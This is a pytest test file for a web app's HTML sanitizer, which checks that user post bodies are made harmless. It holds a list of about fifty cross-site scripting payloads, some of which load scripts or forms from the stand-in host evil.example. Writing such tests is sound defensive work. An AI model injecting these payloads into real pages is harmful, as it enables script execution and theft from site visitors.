import re
import time

import pytest
from bs4 import BeautifulSoup
from bs4.element import Comment
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from tests.webapp.conftest import Serve
from tests.webapp.fake_search import FakeSearch, document
from webapp import create_app
from webapp.sanitize import MAX_TAGS, safe_html
from webapp.settings import Settings

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</script>",
    "script with a slash": "<script/src=https://evil.example/x.js></script>",
    "handler": "<img src=x onerror=alert(1)><p onclick='alert(1)' ONMOUSEOVER=alert(1)>a</p>",
    "handler without spaces": "<img/src=x/onerror=alert(1)>",
    "handler in svg": "<svg onload=alert(1)><g/onload=alert(2)></svg>",
    "javascript": '<a href="javascript:alert(1)">a</a>',
    "javascript in mixed case": '<a href="JaVaScRiPt:alert(1)">a</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">a</a>',
    "javascript with a line break": '<a href="java\nscript:alert(1)">a</a>',
    "javascript with an entity": '<a href="&#106;avascript:alert(1)">a</a>',
    "javascript with a hex entity": '<a href="&#x6A&#x61;vascript&colon;alert(1)">a</a>',
    "javascript after a control": '<a href="\x01javascript:alert(1)">a</a>',
    "javascript after a space": '<a href="  javascript:alert(1)">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "data": '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a><img src="data:image/svg+xml,x">',
    "javascript image": '<img src="javascript:alert(1)"><img srcset="javascript:alert(1) 2x">',
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>1</script>">inside</iframe>',
    "object and embed": '<object data="x.swf"><embed src="x.swf"><param name="a"></object>',
    "style": "<style>body { display: none } @import 'https://evil.example/x.css'</style>",
    "style attribute": '<p style="width: expression(alert(1)); position: fixed">a</p>',
    "class and id": '<div id="main" class="top" name="q">a</div>',
    "form": '<form action="https://evil.example"><input name=q><button formaction=x>a</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "comment": "<!-- a --><!--><img src=x onerror=alert(1)>-->",
    "unclosed comment": "before<!-- <p>never ends",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?><?xml-stylesheet href='x'?>",
    "closing tags": "</div></div></article></main></body></html><h1>outside</h1>",
    "unclosed tags": "<div><b><table><tr><td><ul><li><a href='https://example.com'>",
    "unclosed attribute": '<a href="https://example.com><img src=x onerror=alert(1)>',
    "plaintext": "<plaintext>the rest",
    "target": '<a href="https://example.com" target="_blank" rel="opener" ping="x">a</a>',
    "custom element": "<x-evil onclick=alert(1)>a</x-evil><any>b</any>",
    "usemap": '<img src="https://e.example/a.png" usemap="#m"><map name=m><area href="javascript:1">',
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    "audio and video": "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x>",
    "nul": "<scr\0ipt>alert(1)</script><p>a\0b</p>",
    "mailto image": '<img src="mailto:a@example.com"><img src="//example.com/a.png">',
}
FOREIGN = (
    "script style iframe frame object embed form input button textarea select base meta link svg "
    "math template noscript video audio source map area title html body head"
).split()
ALLOWED = frozenset(
    "abbr alt colspan datetime decoding dir height href hreflang lang loading referrerpolicy rel "
    "reversed rowspan scope span src start title value width".split()
)


def assert_harmless(html: str) -> None:
    soup = BeautifulSoup(f"<p>{html}", "html.parser")  # it warns of texts like ``a.txt`` alone
    assert not soup(FOREIGN)
    assert not soup.find_all(string=lambda text: isinstance(text, Comment))
    for tag in soup(True):
        assert set(tag.attrs) <= ALLOWED
        href = str(tag.get("href", "https://"))
        assert href.startswith(("https://", "http://", "mailto:", "tel:", "/assets/"))
        assert str(tag.get("src", "https://")).startswith(("https://", "http://", "/assets/"))


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.usefixtures("in_app")
def test_hostile_html_becomes_harmless(html: str) -> None:
    assert_harmless(safe_html(html))


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_post_does_not_reach_out_of_its_container(serve: Serve, html: str) -> None:
    page = serve(document("hostile", html=html, title=html, excerpt=html, tags=(html,)))
    soup = BeautifulSoup(page.get("/posts/hostile").text, "lxml")
    assert len(soup("h1")) == len(soup("main")) == len(soup("article")) == 1
    assert [script["type"] for script in soup("script")] == ["application/ld+json", "module"]
    container = soup.select_one("main article.post > div.body")
    assert container is not None
    assert_harmless(container.decode_contents())
    assert soup.select_one("body > footer.bottom")


@pytest.mark.parametrize(
    ("source", "safe"),
    [
        ("unclosed <b>tag", "unclosed <b>tag</b>"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("지금 <any>명", "지금 명"),
        ("<button>누르기</button>", "누르기"),
    ],
)
@pytest.mark.usefixtures("in_app")
def test_text_stays(source: str, safe: str) -> None:
    assert str(safe_html(source)) == safe


@pytest.mark.parametrize(
    ("html", "safe"),
    [
        (
            "<h1>a</h1><h2 class=x>b</h2><H5>c</H5><h6>d</h6>",
            "<h2>a</h2><h3>b</h3><h6>c</h6><h6>d</h6>",
        ),
        ("<p>a</p><p>&nbsp;</p><p data-x='1'> <br/></p><p>b</p>", "<p>a</p><p>b</p>"),
        (
            "<details open><summary>a</summary>b</details>",
            "<details><summary>a</summary>b</details>",
        ),
        ("<ol start=3><li value=9>a</li></ol>", '<ol start="3"><li value="9">a</li></ol>'),
        (
            "<figure><figcaption>a</figcaption></figure>",
            "<figure><figcaption>a</figcaption></figure>",
        ),
        (
            "<table><tr><td colspan=2 rowspan=99999 width=9>a</table>",
            '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
        ),
        ("<font color=red>a</font><any>b</any>", "ab"),
        ('<a href="/2024/other.html">a</a>', '<a rel="noopener noreferrer nofollow ugc">a</a>'),
        ('<a href="#note">a</a>', '<a rel="noopener noreferrer nofollow ugc">a</a>'),
        (
            '<a href="https://example.com/?a=1&amp;b=2" target=_blank>a</a>',
            '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow ugc">a</a>',
        ),
    ],
)
@pytest.mark.usefixtures("in_app")
def test_what_news_bodies_use_stays(html: str, safe: str) -> None:
    assert safe_html(html) == Markup(safe)


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("/assets/a.png", "/assets/a.png"),
        ("assets/a.png", "/assets/a.png"),
        ("https://example.com/a.png", "https://example.com/a.png"),
        ("//example.com/a.png", "https://example.com/a.png"),
        ("/other/a.png", None),
        ("data:image/png;base64,AAAA", None),
        ("mailto:a@example.com", None),
    ],
)
@pytest.mark.usefixtures("in_app")
def test_an_image_loads_late_and_only_from_where_it_may(source: str, kept: str | None) -> None:
    html = safe_html(f'<img src="{source}" alt="a" width="640" height="100%" sizes="1" style="x">')
    image = BeautifulSoup(html, "lxml").img
    assert image is not None
    assert image.get("src") == kept
    del image["src"]
    assert image.attrs == {
        "alt": "a",
        "width": "640",
        "decoding": "async",
        "loading": "lazy",
        "referrerpolicy": "no-referrer",
    }


@pytest.mark.usefixtures("in_app")
def test_an_image_without_an_alternative_text_gets_an_empty_one() -> None:
    for html in ('<img src="/assets/a.png">', '<IMG title="alt" src=/assets/a.png>'):
        assert 'alt=""' in safe_html(html)
    assert safe_html('<img ALT = "a">').count("alt=") == 1
    assert 'alt="a"' in safe_html("<img\nsrc='/assets/a.png'\nalt=a>")


@pytest.mark.usefixtures("in_app")
def test_what_is_safe_stays_as_it_is_but_for_its_headings() -> None:
    once = safe_html("<p>a <a href='https://example.com'>b</a><br><b>c</b></p><ul><li>d</li></ul>")
    assert safe_html(once) == once


@pytest.mark.usefixtures("in_app")
def test_too_many_tags_are_no_html_and_many_are_quick() -> None:
    assert safe_html("<div>" * (MAX_TAGS + 1)) == ""
    began = time.perf_counter()
    assert safe_html("<div>" * 5000)
    assert time.perf_counter() - began < 2


def test_a_post_with_too_many_tags_shows_its_text(serve: Serve) -> None:
    client = serve(document("deep", html="<div>" * (MAX_TAGS + 1), body="보이는 글"))
    assert "<p>보이는 글</p>" in client.get("/posts/deep").text


APP: Flask = create_app(Settings(), search=FakeSearch())
PIECES = st.lists(
    st.sampled_from(
        [
            *HOSTILE.values(),
            "<",
            ">",
            '"',
            "'",
            "/",
            "=",
            "<!--",
            "-->",
            "</",
            "<svg>",
            "<style>",
            "&#",
        ]
    )
    | st.text(max_size=5)
)


@given(PIECES)
def test_no_mixture_of_hostile_pieces_is_harmful(pieces: list[str]) -> None:
    with APP.test_request_context():
        safe = safe_html("".join(pieces))
        assert_harmless(safe)
        assert not re.search(r"<h1[\s>]", safe)
